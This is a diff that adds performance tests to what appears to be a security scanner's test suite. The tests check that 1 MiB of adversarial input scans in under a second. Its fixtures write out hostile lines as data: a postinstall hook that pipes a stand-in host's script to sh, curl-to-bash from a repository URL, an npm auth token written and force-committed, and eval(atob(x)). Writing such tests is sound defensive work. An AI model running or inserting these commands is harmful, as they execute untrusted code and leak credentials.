@@ -170,6 +170,29 @@ describe('adversarial inputs', () => {
     ['admin scope lists', '"admin.users:write", "admin:org", '.repeat(MiB / 34)],
     ['secret key names without keys', 'aws_secret_access_key = "aB3'.repeat(MiB / 28)],
     ['account keys without an end', 'AccountKey=' + 'aB3+'.repeat(MiB / 4)],
+    ['one catalogue heading', '# Install-script patterns from ' + 'packages we '.repeat(MiB / 12)],
+    [
+      'catalogue sections of fenced samples',
+      '## Patterns from packages we reported\n```json\n"postinstall": "curl -s https://x.example.net/i | sh"\n```\n'.repeat(
+        MiB / 100,
+      ),
+    ],
+    [
+      'fixed workflow samples',
+      '```yaml\non: pull_request_target\n```\nFix: use pull_request\n'.repeat(MiB / 52),
+    ],
+    ['force-adds without a file', 'git add -f '.repeat(MiB / 11)],
+    ['token writes without a redirect', 'token=a '.repeat(MiB / 8)],
+    ['committed tokens', 'echo "_authToken=x" > .npmrc\ngit add -f .npmrc\n'.repeat(MiB / 48)],
+    [
+      'pinned repository scripts',
+      'curl https://raw.githubusercontent.com/a/tool/v1.2/i | bash\n'.repeat(MiB / 60),
+    ],
+    ['issue titles', 'An issue titled `'.repeat(MiB / 17)],
+    [
+      'decoding lead-ins',
+      'After base64-decoding the blob it was '.repeat(MiB / 38) + ':\n```js\neval(x)\n```\n',
+    ],
   ];
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     for (const path of [
@@ -184,6 +207,54 @@ describe('adversarial inputs', () => {
       scan(path, text);
       expect(performance.now() - start).toBeLessThan(1000);
     }
+  });
+});
+
+describe('adversarial rule packs and before/after pairs', () => {
+  const MiB = 1024 * 1024;
+  const scanFiles = (files: Record<string, string>) =>
+    scanStatic({
+      files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
+    });
+  const rules = 'rules:\n  - id: a\n    languages: [js]\n    message: m\n    pattern: eval(atob($X))\n';
+  const cases: [string, Record<string, string>][] = [
+    [
+      '1 MiB of annotated rule-test samples',
+      { 'r/a.yaml': rules, 'r/a.js': '// ruleid: a\neval(atob(x))\n'.repeat(MiB / 27) },
+    ],
+    ['1 MiB of annotations alone', { 'r/a.yaml': rules, 'r/a.js': '// ruleid: a, a, a\n'.repeat(MiB / 19) }],
+    [
+      'a 1 MiB autofix block',
+      { 'r/a.yaml': rules + '    fix: |\n' + '      eval(atob(x))\n'.repeat(MiB / 20) },
+    ],
+    ['1 MiB of autofix keys', { 'r/a.yaml': rules + '    fix: x\n'.repeat(MiB / 11) }],
+    [
+      '1 MiB of catalogue sections in a reference file',
+      {
+        'references/p.md':
+          '## Patterns from packages we reported\n```json\n"postinstall": "curl -s https://x.example.net/i | sh"\n```\n'.repeat(
+            MiB / 100,
+          ),
+      },
+    ],
+    [
+      '1 MiB of fixed samples in a reference file',
+      {
+        'references/f.md': '```yaml\non: pull_request_target\n```\nFix: use pull_request\n'.repeat(MiB / 52),
+      },
+    ],
+    [
+      'a 1 MiB before file',
+      { 'x/before.yml': 'on: pull_request_target\n'.repeat(MiB / 24), 'x/after.yml': 'on: push\n' },
+    ],
+  ];
+  it.each(cases)('should scan %s in under a second', (_name, files) => {
+    const start = performance.now();
+    scanFiles({
+      'SKILL.md': '---\nname: rule-pack-review\ndescription: Review and harden\n---\n# R\n',
+      ...files,
+    });
+    expect(performance.now() - start).toBeLessThan(1000);
   });
 });
 
